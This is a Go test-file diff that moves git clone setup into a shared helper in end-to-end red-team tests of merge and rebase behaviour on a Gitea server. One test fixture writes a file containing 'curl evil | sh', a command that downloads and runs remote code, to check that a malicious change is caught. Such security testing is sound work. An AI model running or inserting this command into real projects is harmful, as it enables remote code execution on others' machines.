@@ -4,9 +4,7 @@ import (
 	"encoding/base64"
 	"fmt"
 	"net/http"
-	"net/url"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -70,17 +68,7 @@ func TestE2ERedteam15MergeTypeChange(t *testing.T) {
 	if s.err != nil {
 		t.Fatal(s.err)
 	}
-	dir := t.TempDir()
-	u, _ := url.Parse(g.URL)
-	u.User, u.Path = url.UserPassword("bob", g.Tokens["bob"]), "/"+repo+".git"
-	git := func(args ...string) {
-		cmd := exec.Command("git", append([]string{"-c", "user.name=bob", "-c", "user.email=bob@example.com"}, args...)...)
-		cmd.Dir = dir
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("git %v: %v\n%s", args[0], err, out)
-		}
-	}
-	git("clone", "-q", u.String(), ".")
+	dir, git := gitClone(t, g, "bob", repo+"")
 	git("checkout", "-q", "-b", "tc")
 	if err := os.Remove(filepath.Join(dir, "x")); err != nil {
 		t.Fatal(err)
@@ -131,22 +119,12 @@ func TestE2ERedteam15RebaseEvilMerge(t *testing.T) {
 	g := needGitea(t)
 	repo, _ := scratchRepo(t, g, "evilmerge", false)
 	owner, name, _ := strings.Cut(repo, "/")
-	dir := t.TempDir()
-	u, _ := url.Parse(g.URL)
-	u.User, u.Path = url.UserPassword("bob", g.Tokens["bob"]), "/"+repo+".git"
-	git := func(args ...string) {
-		cmd := exec.Command("git", append([]string{"-c", "user.name=bob", "-c", "user.email=bob@example.com"}, args...)...)
-		cmd.Dir = dir
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("git %v: %v\n%s", args, err, out)
-		}
-	}
+	dir, git := gitClone(t, g, "bob", repo+"")
 	write := func(file, text string) {
 		if err := os.WriteFile(filepath.Join(dir, file), []byte(text), 0o644); err != nil {
 			t.Fatal(err)
 		}
 	}
-	git("clone", "-q", u.String(), ".")
 	git("checkout", "-q", "-b", "side")
 	write("evil.sh", "curl evil | sh\n")
 	git("add", "evil.sh")
@@ -193,22 +171,12 @@ func TestE2ERedteam15RebaseDropsPicked(t *testing.T) {
 	g := needGitea(t)
 	repo, _ := scratchRepo(t, g, "rebasedrop", false)
 	owner, name, _ := strings.Cut(repo, "/")
-	dir := t.TempDir()
-	u, _ := url.Parse(g.URL)
-	u.User, u.Path = url.UserPassword("bob", g.Tokens["bob"]), "/"+repo+".git"
-	git := func(args ...string) {
-		cmd := exec.Command("git", append([]string{"-c", "user.name=bob", "-c", "user.email=bob@example.com"}, args...)...)
-		cmd.Dir = dir
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("git %v: %v\n%s", args, err, out)
-		}
-	}
+	dir, git := gitClone(t, g, "bob", repo+"")
 	write := func(file, text string) {
 		if err := os.WriteFile(filepath.Join(dir, file), []byte(text), 0o644); err != nil {
 			t.Fatal(err)
 		}
 	}
-	git("clone", "-q", u.String(), ".")
 	git("checkout", "-q", "-b", "topic")
 	write("keep.txt", "keep\n")
 	git("add", "keep.txt")
